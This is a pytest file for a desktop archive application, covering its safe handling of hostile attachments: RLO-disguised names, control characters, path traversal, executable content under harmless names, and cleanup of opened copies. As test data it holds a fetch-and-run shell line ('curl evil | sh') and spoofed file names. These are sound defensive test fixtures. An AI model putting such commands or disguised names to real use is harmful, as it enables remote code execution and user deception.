"""Hostile attachment names in the source form: shown as what they are, opened under a safe
name from the private folder, and never handed to the desktop as a program unasked."""

from __future__ import annotations

import os
import stat
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt, QUrl

from desktop.gui.commands import AddAttachmentCommand
from desktop.gui.main_window import MainWindow
from desktop.gui.panes.detail import DetailPane
from desktop.gui.panes.detail.attachments import AttachmentsSection
from desktop.gui.settings import open_settings
from desktop.gui.tasks import TaskRunner
from desktop.gui.workspace import Workspace

AMNESTY = "Amnesty International account"
RLO_NAME = "invoice\u202efdp.exe"


def _section(workspace: Workspace, pane: DetailPane, files: list[tuple[str, bytes]]) -> AttachmentsSection:
    uid = next(r.uid for r in workspace.named_rows("source") if r.label.startswith(AMNESTY))
    for name, content in files:
        workspace.execute(AddAttachmentCommand(workspace, uid, name, content, {"media_type": "application/octet-stream"}))
    pane.show_record("source", uid)
    section = pane.forms["source"].attachments  # type: ignore[attr-defined]
    assert isinstance(section, AttachmentsSection)
    return section


def _row_of(section: AttachmentsSection, stored: str) -> int:
    return next(i for i, row in enumerate(section.rows) if row["file_name"] == stored)


def _open(qtbot: Any, section: AttachmentsSection, row: int) -> None:
    section.table.clearSelection()
    section.table.selectRow(row)
    qtbot.mouseClick(section.open_button, Qt.MouseButton.LeftButton)


@pytest.mark.parametrize(("stored", "shown"), [
    (RLO_NAME, "invoice⟨U+202E⟩fdp.exe"),
    ("report\u2067.pdf\u2069.js", "report⟨U+2067⟩.pdf⟨U+2069⟩.js"),
    ("a\nb\x07.txt", "a⟨U+000A⟩b⟨U+0007⟩.txt"),
    ("..", ".."),
    ("sub/..", "sub/.."),
])  # fmt: skip
def test_the_list_shows_the_safe_display_name(workspace: Workspace, pane: DetailPane, stored: str, shown: str) -> None:
    section = _section(workspace, pane, [(stored, b"data")])
    item = section.table.item(_row_of(section, stored), 0)
    assert item.text() == shown and item.toolTip().startswith(shown)
    assert section.table.textElideMode() == Qt.TextElideMode.ElideMiddle  # a long name keeps its end in sight


def test_a_program_opens_only_after_the_named_risk_is_confirmed(workspace: Workspace, pane: DetailPane, qtbot: Any) -> None:
    section = _section(workspace, pane, [(RLO_NAME, b"MZ\x90\x00 a Windows program")])
    asked: list[tuple[str, str]] = []
    opened: list[QUrl] = []
    section.open_url = opened.append
    answer = False
    section.confirm_risk = lambda name, risk: asked.append((name, risk)) or answer  # type: ignore[func-returns-value]
    _open(qtbot, section, _row_of(section, RLO_NAME))
    assert opened == []
    ((name, risk),) = asked
    assert name == "invoice⟨U+202E⟩fdp.exe"
    assert "its name ends in .exe: a Windows program" in risk and "a Windows program (MZ)" in risk

    answer = True
    _open(qtbot, section, _row_of(section, RLO_NAME))
    (url,) = opened
    path = Path(url.toLocalFile())
    assert url.isLocalFile() and path.name == "invoicefdp.exe"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and not os.access(path, os.X_OK)
    assert workspace.opened_files.folder is not None and path.is_relative_to(workspace.opened_files.folder)


@pytest.mark.parametrize(("stored", "content"), [
    ("holiday.jpg", b"\x7fELF\x02\x01\x01\x00"), ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n"),
])  # fmt: skip
def test_program_content_under_a_harmless_name_is_caught(workspace: Workspace, pane: DetailPane, qtbot: Any, stored: str, content: bytes) -> None:
    section = _section(workspace, pane, [(stored, content)])
    asked: list[str] = []
    opened: list[QUrl] = []
    section.open_url = opened.append
    section.confirm_risk = lambda name, risk: asked.append(risk) or False  # type: ignore[func-returns-value]
    _open(qtbot, section, _row_of(section, stored))
    assert len(asked) == 1 and "its content is" in asked[0] and opened == []


def test_documents_open_without_a_question_under_a_safe_name(workspace: Workspace, pane: DetailPane, qtbot: Any) -> None:
    long_name = "Доклад " * 60 + ".pdf"
    section = _section(workspace, pane, [("../../escape.pdf", b"%PDF-1.7 one"), ("..", b"%PDF-1.7 two"), (long_name, b"%PDF-1.7 three")])
    section.confirm_risk = lambda name, risk: pytest.fail(f"asked about a document: {risk}")  # type: ignore[assignment]
    opened: list[QUrl] = []
    section.open_url = opened.append
    for stored in ("../../escape.pdf", "..", long_name):
        _open(qtbot, section, _row_of(section, stored))
    names = [Path(url.toLocalFile()).name for url in opened]
    assert names[:2] == ["escape.pdf", "attachment"]
    assert names[2].endswith(".pdf") and len(names[2].encode()) <= 255
    folder = workspace.opened_files.folder
    assert folder is not None and all(Path(url.toLocalFile()).parent.parent == folder for url in opened)


def test_save_a_copy_suggests_the_safe_name(workspace: Workspace, pane: DetailPane, qtbot: Any, tmp_path: Path) -> None:
    section = _section(workspace, pane, [(RLO_NAME, b"MZ")])
    suggested: list[str] = []
    section.choose_save_path = lambda name: suggested.append(name) or ""  # type: ignore[func-returns-value]
    section.table.selectRow(_row_of(section, RLO_NAME))
    qtbot.mouseClick(section.save_button, Qt.MouseButton.LeftButton)
    assert suggested == ["invoicefdp.exe"]


def test_closing_the_archive_deletes_the_opened_files(qtbot: Any, demo_path: Path) -> None:
    window = MainWindow(open_settings(), TaskRunner())
    qtbot.addWidget(window)
    window.show()
    assert window.open_archive(demo_path)
    workspace = window.workspace
    assert workspace is not None and window.workbench is not None
    section = _section(workspace, window.workbench.detail_pane, [("statement.pdf", b"%PDF-1.7 secret")])
    opened: list[QUrl] = []
    section.open_url = opened.append
    _open(qtbot, section, _row_of(section, "statement.pdf"))
    (url,) = opened
    copy = Path(url.toLocalFile())
    assert copy.read_bytes() == b"%PDF-1.7 secret"
    window.close_archive()
    assert not copy.exists() and not copy.parent.parent.exists()
    window.close()


def test_a_file_whose_name_is_not_utf8_is_attached_and_its_undo_step_shows_the_real_name(
    workspace: Workspace, pane: DetailPane, qtbot: Any, tmp_path: Path
) -> None:
    raw = tmp_path / os.fsdecode(b"caf\xe9 \xe2\x80\xaefdp.exe")  # Latin-1 byte, then a real U+202E
    raw.write_bytes(b"MZ\x90\x00")
    section = _section(workspace, pane, [])
    section.choose_files = lambda: [str(raw)]
    qtbot.mouseClick(section.add_button, Qt.MouseButton.LeftButton)
    stored = "caf\\xe9 \u202efdp.exe"
    assert section.error.isHidden() and [row["file_name"] for row in section.rows].count(stored) == 1
    assert section.table.item(_row_of(section, stored), 0).text() == "caf\\xe9 ⟨U+202E⟩fdp.exe"
    assert workspace.undo_stack.undoText() == "Attach caf\\xe9 ⟨U+202E⟩fdp.exe"  # what Edit ▸ Undo shows
    opened: list[QUrl] = []
    section.open_url = opened.append
    section.confirm_risk = lambda name, risk: False
    _open(qtbot, section, _row_of(section, stored))
    assert opened == []
